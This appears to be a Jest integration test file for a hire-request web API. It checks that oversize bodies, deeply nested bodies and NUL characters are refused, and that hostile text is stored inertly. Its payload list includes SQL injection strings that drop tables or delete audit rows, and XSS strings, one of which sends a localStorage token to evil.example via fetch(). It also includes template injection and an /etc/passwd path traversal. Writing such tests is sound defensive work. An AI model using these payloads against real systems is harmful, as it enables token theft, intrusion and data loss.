import { startTestApp, type TestApp } from '../support/app';
import { aHireBody, bearer, openReviewPeriod, unitIdsByCode } from '../support/http-fixtures';

jest.setTimeout(120_000);

/**
 * Bodies an attacker sends: too large, nested to exhaust a recursive walker, or carrying SQL and script. The first
 * two are refused before validation; the last are data, stored and shown exactly as typed.
 */
let t: TestApp;
let unitId: string;

beforeAll(async () => {
  t = await startTestApp();
  unitId = (await unitIdsByCode(t)).get('SOM-AKUT')!;
  expect((await openReviewPeriod(t, 'hire')).status).toBe(201);
});
afterAll(() => t?.stop());

const requestCount = async () =>
  (await t.db.dataSource.query(`SELECT count(*)::int AS n FROM requests`))[0].n as number;

describe('oversize and deeply nested bodies', () => {
  it('refuses a body over BODY_LIMIT with 413 before authentication, writing nothing', async () => {
    const before = await requestCount();
    const huge = aHireBody(unitId, { justification: 'x'.repeat(150 * 1024) });
    const anonymous = await t.http.post('/api/v1/requests').send(huge);
    expect(anonymous.status).toBe(413);
    expect(anonymous.headers['content-type']).toMatch(/problem\+json/);
    const signedIn = await t.http
      .post('/api/v1/requests')
      .set(await bearer(t, 'chef.akuten'))
      .send(huge);
    expect(signedIn.status).toBe(413);
    expect(await requestCount()).toBe(before);
  });

  it.each([
    ['arrays, 20 000 deep', '['.repeat(20_000) + ']'.repeat(20_000)],
    [
      'objects inside a field, 5 000 deep',
      JSON.stringify(aHireBody('u')).replace(
        '"savingsNote":"Vakansen finansierar tjänsten"',
        `"savingsNote":${'{"a":'.repeat(5_000)}1${'}'.repeat(5_000)}`,
      ),
    ],
    ['just past the limit, 33 deep', '{"kind":' + '['.repeat(32) + ']'.repeat(32) + '}'],
  ])('refuses %s with 400 naming the body', async (_, raw) => {
    for (const path of ['/api/v1/requests', '/api/v1/auth/dev-login']) {
      const res = await t.http
        .post(path)
        .set(await bearer(t, 'chef.akuten'))
        .set('Content-Type', 'application/json')
        .send(raw);
      expect([path, res.status]).toEqual([path, 400]);
      expect(res.body.errors).toEqual([{ field: '(body)', message: expect.stringMatching(/nested deeper/) }]);
    }
  });

  it.each<[string, string, object, string]>([
    ['a user name', '/api/v1/auth/dev-login', { username: 'admin\u0000' }, 'username'],
    ['a justification', '/api/v1/requests', aHireBody('u', { justification: 'a\u0000b' }), 'justification'],
    [
      'a list element',
      '/api/v1/requests',
      { ...aHireBody('u'), alternativesTried: ['x\u0000'] },
      'alternativesTried.0',
    ],
  ])(
    'refuses a NUL character in %s with 400 naming the field (PostgreSQL cannot store it)',
    async (_, path, body, field) => {
      const res = await t.http
        .post(path)
        .set(await bearer(t, 'chef.akuten'))
        .send(body);
      expect(res.status).toBe(400);
      expect(res.body.errors).toEqual([{ field, message: 'must not contain a NUL character' }]);
    },
  );

  it('still accepts an ordinary body (the control for the refusals above)', async () => {
    await t.http
      .post('/api/v1/requests')
      .set(await bearer(t, 'chef.akuten'))
      .send(aHireBody(unitId))
      .expect(201);
  });
});

const HOSTILE = [
  "'; DROP TABLE requests; --",
  "Robert'); DELETE FROM audit_events WHERE ('1'='1",
  '" OR 1=1 --',
  '<script>alert(document.cookie)</script>',
  '<img src=x onerror="fetch(`//evil.example/?c=`+localStorage.token)">',
  '{{constructor.constructor("alert(1)")()}}',
  '${7*7} #{7*7} %s %n \\u0000',
  '../../etc/passwd',
];

describe('SQL and script in free text', () => {
  it('stores them as text and returns them byte for byte, as JSON', async () => {
    const text = HOSTILE.join(' | ');
    const chef = await bearer(t, 'chef.akuten');
    const submitted = await t.http
      .post('/api/v1/requests')
      .set(chef)
      .set('Idempotency-Key', `';DROP/**/TABLE/**/requests;--<script>`)
      .send(
        aHireBody(unitId, {
          justification: text,
          title: HOSTILE[3],
          consequenceIfRejected: HOSTILE[1],
          savingsNote: HOSTILE[4],
        }),
      );
    expect([submitted.status, submitted.body.errors]).toEqual([201, undefined]);
    const id = submitted.body.id;
    await t.http
      .post(`/api/v1/requests/${id}/decisions`)
      .set(await bearer(t, 'hr.somatik'))
      .send({ outcome: 'return', comment: text })
      .expect(201);
    await t.http.post(`/api/v1/requests/${id}/resubmit`).set(chef).send({ comment: HOSTILE[2] }).expect(201);

    const detail = await t.http.get(`/api/v1/requests/${id}`).set(chef).expect(200);
    expect(detail.headers['content-type']).toMatch(/^application\/json/);
    expect(detail.headers['x-content-type-options']).toBe('nosniff');
    expect(detail.body).toMatchObject({
      justification: text,
      title: HOSTILE[3],
      consequenceIfRejected: HOSTILE[1],
      savingsNote: HOSTILE[4],
    });
    const timeline = await t.http.get(`/api/v1/requests/${id}/timeline`).set(chef).expect(200);
    expect(JSON.stringify(timeline.body)).toContain(JSON.stringify(text).slice(1, -1));
    const [row] = await t.db.dataSource.query(
      `SELECT payload->>'justification' AS j FROM requests WHERE id = $1`,
      [id],
    );
    expect(row.j).toBe(text);
    // Nothing ran: the tables are there and the audit trail kept every event.
    const [{ n }] = await t.db.dataSource.query(
      `SELECT count(*)::int AS n FROM audit_events WHERE request_id = $1`,
      [id],
    );
    expect(n).toBeGreaterThanOrEqual(4);
    expect(await requestCount()).toBeGreaterThan(0);
  });

  it.each([
    ['status', "' OR 1=1 --"],
    ['unitId', "00000000-0000-0000-0000-000000000000' OR '1'='1"],
    ['sort', 'submitted_at; DROP TABLE requests'],
    ['page', '1 UNION SELECT password FROM users'],
  ])('refuses an injection in the %s filter with 400 naming it', async (field, value) => {
    const res = await t.http
      .get('/api/v1/requests')
      .query({ [field]: value })
      .set(await bearer(t, 'chef.akuten'));
    expect(res.status).toBe(400);
    expect(res.body.errors.map((e: { field: string }) => e.field)).toContain(field);
  });

  it('answers an injection in a path id with 400, not a database error', async () => {
    const res = await t.http
      .get(`/api/v1/requests/${encodeURIComponent("1' OR '1'='1")}`)
      .set(await bearer(t, 'chef.akuten'));
    expect(res.status).toBe(400);
  });
});
